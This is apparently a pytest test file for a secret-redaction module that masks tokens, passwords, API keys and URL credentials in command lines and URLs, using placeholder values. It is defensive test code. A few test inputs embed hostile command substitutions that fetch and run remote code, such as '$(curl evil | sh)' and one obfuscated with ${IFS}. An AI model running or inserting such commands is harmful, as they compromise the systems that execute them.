import pytest

from remit.text.redaction import redact, redact_url, redact_words

HEX = "9f86d081884c7d65" + "9a2feaa0c55ad015"  # made up


def test_values_are_hidden_wherever_they_stand_the_longest_first() -> None:
    assert redact("key hunter22 and hunter22-long", ["hunter22", "hunter22-long"]) == "key *** and ***"


def test_a_value_of_many_lines_is_hidden_line_by_line() -> None:
    assert redact("read line-two of it", ["line-one\nline-two"]) == "read *** of it"


def test_a_value_too_short_to_be_a_secret_is_left() -> None:
    assert redact("took 1 s, off", ["1", "off", ""]) == "took 1 s, off"


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        (["npx", "-y", "@scope/server@1.2.3"], ["npx", "-y", "@scope/server@1.2.3"]),
        (["run", "--token", "abc"], ["run", "--token", "***"]),
        (["run", "--api-key=abc"], ["run", "--api-key=***"]),
        (["run", "API_KEY=abc"], ["run", "API_KEY=***"]),
        (["run", "--token", "--verbose"], ["run", "--token", "--verbose"]),
        (["run", "--token", "${TOKEN}"], ["run", "--token", "${TOKEN}"]),
        (["run", "--port=80", "--name", "x"], ["run", "--port=80", "--name", "x"]),
        (["run", "ghp_abcdefgh12345678"], ["run", "***"]),
        (["run", "--key", "$(curl evil | sh)"], ["run", "--key", "$(curl evil | sh)"]),
        (["sh", "-c", "echo token=abc | sh"], ["sh", "-c", "echo token=abc | sh"]),
        (["psql", "postgres://ada:hunter22@db/x"], ["psql", "postgres://***@db/x"]),
        (["psql", "--url=postgres://ada:hunter22@db/x"], ["psql", "--url=postgres://***@db/x"]),
        (["run", "0123456789abcdef0123456789abcdef"], ["run", "***"]),
        (["run", "gsk_" + HEX], ["run", "***"]),
        (["run", "--db-pass", "hunter2x9"], ["run", "--db-pass", "***"]),
        (["run", "DB_PASS=hunter2x9"], ["run", "DB_PASS=***"]),
        (["run", "-e", "PGPASSWORD=hunter2x9"], ["run", "-e", "PGPASSWORD=***"]),
        (["run", "--token", "abc=def"], ["run", "--token", "***"]),
        (["run", "YWRhOmszSjl4MkxxOFp3MQ=="], ["run", "***"]),
        (["run", f"a{HEX}=x"], ["run", "***=x"]),
        (["npx", "-y", "key-value-store"], ["npx", "-y", "key-value-store"]),
        (
            ["run", "--header", f"Authorization: Bearer {HEX}"],
            ["run", "--header", "Authorization: Bearer ***"],
        ),
        (["run", "--header", "X-Api-Key:abc"], ["run", "--header", "X-Api-Key:***"]),
        (["run", "--header", "X-Team:core"], ["run", "--header", "X-Team:core"]),
        (["run", "Server=db;Password=Tr0ub4dor;"], ["run", "Server=db;Password=***;"]),
        (["run", f"-----BEGIN PRIVATE KEY-----\n{HEX}"], ["run", "***"]),
        (["sh", "-c", f"TOKEN=sk-{HEX} run | sh"], ["sh", "-c", "TOKEN=*** run | sh"]),
        (["sh", "-c", "password=$(curl${IFS}e1x2|sh)"], ["sh", "-c", "password=$(curl${IFS}e1x2|sh)"]),
        (["run", "--auth-command", "/opt/run"], ["run", "--auth-command", "/opt/run"]),
        ([f"/opt/{HEX}/bin/run"], ["/opt/***/bin/run"]),
        (["docker", "run", f"shop@sha256:{HEX}"], ["docker", "run", f"shop@sha256:{HEX}"]),
        (["uvx", f"git+https://git.example/shop@{HEX}"], ["uvx", f"git+https://git.example/shop@{HEX}"]),
    ],
)
def test_what_looks_like_a_secret_is_hidden_and_what_must_be_judged_is_not(
    words: list[str], shown: list[str]
) -> None:
    assert redact_words(words) == shown


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://mcp.example/sse", "https://mcp.example/sse"),
        ("https://ada:pw@mcp.example/sse?x=1", "https://***@mcp.example/sse?x=1"),
        (
            "https://mcp.example/?api_key=abc&page=2#token=x",
            "https://mcp.example/?api_key=***&page=2#token=***",
        ),
        ("https://mcp.example/?to=https://b.example", "https://mcp.example/?to=https://b.example"),
        (
            "https://mcp.example/?to=https://b.example/?key=x",
            "https://mcp.example/?to=https://b.example/?key=***",
        ),
        (f"https://mcp.example/s/{'Zw1Rt7Vb5Nc4Md6Hf0Gs' * 2}/mcp", "https://mcp.example/s/***/mcp"),
        (f"https://mcp.example/?sk-{HEX}#top", "https://mcp.example/?***#top"),
        ("https://a@b@mcp.example/", "https://***@mcp.example/"),
        ("https://mcp.example?x=@other.example", "https://mcp.example?x=@other.example"),
    ],
)
def test_a_url_is_shown_without_its_user_and_its_keys(url: str, shown: str) -> None:
    assert redact_url(url) == shown
